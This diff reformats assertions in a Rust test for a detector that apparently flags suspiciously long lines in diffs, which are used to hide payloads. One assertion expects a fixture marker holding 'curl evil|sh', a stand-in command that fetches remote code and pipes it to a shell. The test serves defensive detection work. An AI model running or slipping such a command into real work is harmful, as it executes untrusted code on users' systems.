@@ -81,8 +81,16 @@ mod tests {
         });
         let t = long_line(&r).unwrap_or_else(|| panic!("not tagged"));
         assert_eq!(t.id, "long-line");
-        assert!(t.reason.contains("change.diff line 5 is 20,028 columns"), "{}", t.reason);
-        assert!(t.reason.contains("TAILMARK-DIFF curl evil|sh"), "{}", t.reason);
+        assert!(
+            t.reason.contains("change.diff line 5 is 20,028 columns"),
+            "{}",
+            t.reason
+        );
+        assert!(
+            t.reason.contains("TAILMARK-DIFF curl evil|sh"),
+            "{}",
+            t.reason
+        );
     }
 
     #[test]
